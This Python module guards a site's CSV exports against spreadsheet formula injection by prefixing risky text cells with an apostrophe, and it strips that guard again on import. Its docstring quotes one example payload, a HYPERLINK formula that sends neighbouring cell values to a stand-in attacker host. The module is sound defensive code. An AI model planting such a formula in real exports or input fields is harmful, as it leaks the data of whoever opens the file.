"""The one guard against spreadsheet formulas, for every CSV file the site writes.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and, in some, a tab or a
carriage return before one) as a formula: `=HYPERLINK("http://evil.example/?leak="&A1,"x")`
in a group's name would leak the neighbouring cells when an editor or an open-data reader
opens the file. The writers below put an apostrophe before every such text cell, as the
spreadsheets do themselves; the groups' import (directory/csv/importer.py) takes it off
again, so an exported file imports back unchanged.

Use `writer()` / `DictWriter` here instead of the standard library's: the groups' export
(directory/csv/export.py), the public open-data CSV (directory/views.py) and the
subscribers' export (newsletter/admin.py) all do.
"""

import csv

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def guarded(value):
    """A text cell, with an apostrophe before what a spreadsheet would run as a formula."""
    return f"'{value}" if isinstance(value, str) and value.startswith(FORMULA_START) else value


def strip_formula_guard(value):
    """The text a guarded cell stood for (an import reading back an exported file)."""
    if value.startswith("'") and value[1:].startswith(FORMULA_START):
        return value[1:]
    return value


class _GuardedWriter:
    """csv.writer's rows, with every text cell guarded (numbers and None as they are)."""

    def __init__(self, writer):
        self._writer = writer
        self.dialect = writer.dialect

    def writerow(self, row):
        return self._writer.writerow([guarded(cell) for cell in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def writer(file, *args, **kwargs):
    """csv.writer(file, …) whose text cells are guarded."""
    return _GuardedWriter(csv.writer(file, *args, **kwargs))


class DictWriter(csv.DictWriter):
    """csv.DictWriter whose text cells are guarded."""

    def __init__(self, file, fieldnames, *args, **kwargs):
        super().__init__(file, fieldnames, *args, **kwargs)
        self.writer = _GuardedWriter(self.writer)
